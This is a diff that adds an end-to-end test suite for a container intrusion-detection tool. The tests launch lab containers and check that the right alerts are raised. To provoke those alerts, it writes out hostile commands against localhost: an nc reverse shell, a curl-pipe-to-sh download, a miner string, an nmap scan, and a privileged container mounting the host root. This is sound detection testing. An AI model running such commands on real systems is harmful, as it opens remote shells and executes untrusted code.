@@ -1,0 +1,90 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { adminClient, engines, LAB, newNamespace } from '../support/engines';
+import { removeContainers, runContainer } from '../support/containers';
+import { DockwardProcess } from '../support/dockward';
+import { fetchAll } from '../support/elasticsearch';
+
+type Alert = { rule: { id: string }; threat: { technique: { id: string[] } }; container: { id: string }; dockward: { alert: { count: number; summary: boolean } } };
+
+describe('detection end to end (attack lab on the real engines)', () => {
+  const { docker } = engines();
+  const es = adminClient();
+  const ns = newNamespace('det');
+  const index = `logs-dockward.alert-${ns}`;
+  let dw: DockwardProcess;
+
+  /** Waits until the container's alerts include every one of `ruleIds`. */
+  async function alertsFor(id: string, ruleIds: string[], timeoutMs = 30_000): Promise<Alert[]> {
+    const end = Date.now() + timeoutMs;
+    for (;;) {
+      const a = await fetchAll<Alert>(es, index, { term: { 'container.id': id } });
+      if (ruleIds.every((r) => a.some((x) => x.rule.id === r))) return a;
+      if (Date.now() > end) throw new Error(`expected ${ruleIds} for ${id.slice(0, 12)}, got ${a.map((x) => x.rule.id)}\n${dw.log.slice(-1500)}`);
+      await new Promise((r) => setTimeout(r, 500));
+    }
+  }
+
+  async function exec(id: string, cmd: string[], tty = false): Promise<void> {
+    const e = await docker.getContainer(id).exec({ Cmd: cmd, Tty: tty, AttachStdout: true, AttachStderr: true });
+    const s = await e.start({ hijack: true, stdin: false, Tty: tty });
+    s.resume();
+    await new Promise((r) => s.on('end', r));
+  }
+
+  before(async () => {
+    dw = DockwardProcess.run({ namespace: ns, sets: ['collectors.processes.schedule=* * * * * *', 'collectors.processes.stagger=100ms', 'detect.window=4s'] });
+    await dw.waitFor(/dockward running/);
+  });
+  after(async () => {
+    await dw.kill();
+    await removeContainers(docker, ns);
+    await es.close();
+  });
+
+  it('nmap against the container\'s own 127.0.0.1: process and log evidence, T1046', async () => {
+    const { id } = await runContainer(docker, { name: `${ns}-nmap`, image: LAB, cmd: ['sh', '-c', 'sleep 2; nmap -sT -p 1-3000 --max-rate 400 127.0.0.1; sleep 300'] });
+    const a = await alertsFor(id, ['dockward-scanner', 'dockward-scan-output', 'dockward-net-tool'], 45_000);
+    assert.ok(a.every((x) => x.threat.technique.id.includes('T1046')));
+  });
+
+  it('exec attacks: nc -e reverse shell, curl|sh, a stratum miner, an interactive shell', async () => {
+    const { id } = await runContainer(docker, { name: `${ns}-victim`, image: LAB, cmd: ['sleep', '300'] });
+    await exec(id, ['nc', '-e', '/bin/sh', '127.0.0.1', '4444']);
+    await exec(id, ['sh', '-c', 'curl -s http://127.0.0.1:8000/x.sh | sh']);
+    await exec(id, ['sh', '-c', 'echo mining with stratum+tcp://127.0.0.1:3333']);
+    await exec(id, ['sh', '-c', 'exit 0'], true);
+    const a = await alertsFor(id, ['dockward-reverse-shell-nc', 'dockward-download-exec', 'dockward-miner-process', 'dockward-interactive-exec']);
+    assert.ok(a.find((x) => x.rule.id === 'dockward-reverse-shell-nc')!.threat.technique.id.includes('T1059.004'));
+  });
+
+  it('a privileged container with / mounted', async () => {
+    const c = await docker.createContainer({ name: `${ns}-priv`, Image: 'dockward/busybox:1', Cmd: ['sleep', '300'], HostConfig: { Privileged: true, Binds: ['/:/host'], NetworkMode: 'none' } });
+    await c.start().catch(() => undefined); // cannot start in this sandbox; created is enough
+    await alertsFor(c.id, ['dockward-privileged-container', 'dockward-sensitive-mount']);
+  });
+
+  it('a repeated attack is one alert and one summary with its count', async () => {
+    const { id } = await runContainer(docker, { name: `${ns}-repeat`, cmd: ['sh', '-c', "seq 1 200 | sed 's/^/Nmap scan report for host /'; sleep 300"] });
+    const end = Date.now() + 30_000;
+    let a: Alert[] = [];
+    while (Date.now() < end) {
+      a = (await fetchAll<Alert>(es, index, { term: { 'container.id': id } })).filter((x) => x.rule.id === 'dockward-scan-output');
+      if (a.some((x) => x.dockward.alert.summary)) break;
+      await new Promise((r) => setTimeout(r, 500));
+    }
+    assert.equal(a.length, 2, `documents: ${JSON.stringify(a.map((x) => x.dockward.alert))}`);
+    assert.deepEqual(a.map((x) => [x.dockward.alert.summary, x.dockward.alert.count]).sort(), [[false, 1], [true, 200]]);
+  });
+
+  it('a benign workload raises nothing', async () => {
+    const web = await runContainer(docker, { name: `${ns}-web`, cmd: ['sh', '-c', 'i=0; while [ $i -lt 40 ]; do i=$((i+1)); echo "127.0.0.1 - - \\"GET /api/items/$i HTTP/1.1\\" 200 512"; usleep 100000; done; sleep 300'] });
+    const cron = await runContainer(docker, { name: `${ns}-cron`, cmd: ['sh', '-c', 'while true; do date > /tmp/last-run; echo "job done"; sleep 1; done'] });
+    for (let i = 0; i < 3; i++) await exec(web.id, ['cat', '/etc/hostname']); // health checks
+    await new Promise((r) => setTimeout(r, 6000));
+    for (const id of [web.id, cron.id]) {
+      const a = await fetchAll<Alert>(es, index, { term: { 'container.id': id } });
+      assert.deepEqual(a.map((x) => x.rule.id), [], `no alerts for ${id.slice(0, 12)}`);
+    }
+  });
+});
